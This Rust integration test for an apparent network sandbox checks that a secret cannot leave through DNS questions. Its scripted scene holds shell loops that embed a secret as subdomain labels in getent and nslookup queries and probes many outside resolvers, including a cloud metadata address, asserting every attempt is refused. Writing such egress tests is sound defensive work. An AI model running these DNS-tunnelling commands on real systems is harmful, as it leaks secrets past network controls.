//! Secrets in questions.

use std::time::Duration;

use anyhow::ensure;
use kiln_probe::cases::is_secret;
use kiln_tests::{Stage, Story, stories, world::SHARED};

use super::scene::{PROBE, Scene};

/// To anybody but the gateway, over each way there is to ask.
const SERVERS: &str = "203.0.113.53:53 203.0.113.8:53 8.8.8.8:53 203.0.113.53:853 8.8.8.8:443 \
    203.0.113.1:53 198.51.100.1:53 10.0.0.53:53 169.254.169.254:53 [2001:db8:a::53]:53";

pub(crate) fn stories() -> Vec<Story> {
    stories![no_question_carries_a_secret_out.limit(Duration::from_secs(900))]
}

async fn no_question_carries_a_secret_out(stage: &Stage) -> anyhow::Result<()> {
    let scene = Scene::set(stage).await?;
    let secret = "k1ln-s3cr3t";
    let told = scene
        .told(
            "allow=one.test:443",
            &format!(
                "said first page one.test\n\
                 {PROBE} frames dns 192.0.2.2 192.0.2.1\n\
                 {PROBE} tcp {SERVERS}\n{PROBE} udp {SERVERS}\n\
                 for name in {secret}.test {secret}.one.test {secret}.two.test {secret}.arpa; do\n\
                     getent ahosts $name; done\n\
                 for kind in a aaaa mx txt ns soa srv any ptr cname; do\n\
                     timeout 30 busybox nslookup -type=$kind {secret}.$kind.test; done >/dev/null 2>&1\n\
                 said last page one.test\n"
            ),
        )
        .await?;
    assert_eq!((told.said("first")?, told.said("last")?), ("this is one.test", "this is one.test"));
    for transport in ["tcp", "udp"] {
        for tried in told.tried(transport)? {
            ensure!(tried.outcome != "open", "{tried:?}");
        }
    }
    let asked = scene.world.zone().asked();
    ensure!(!asked.iter().any(|asked| is_secret(&asked.name)), "{asked:?}");
    ensure!(asked.iter().all(|asked| asked.name == "one.test"), "{asked:?}");
    let record = scene.record().await?;
    let refusals = record["egress"]["refusals"].as_array().cloned().unwrap_or_default();
    let secrets = refusals.iter().filter(|one| one["name"].as_str().is_some_and(is_secret)).count();
    ensure!(secrets >= 20, "{secrets} of the questions are in {record}");
    scene.ends(&[(SHARED.into(), 443)]).await
}
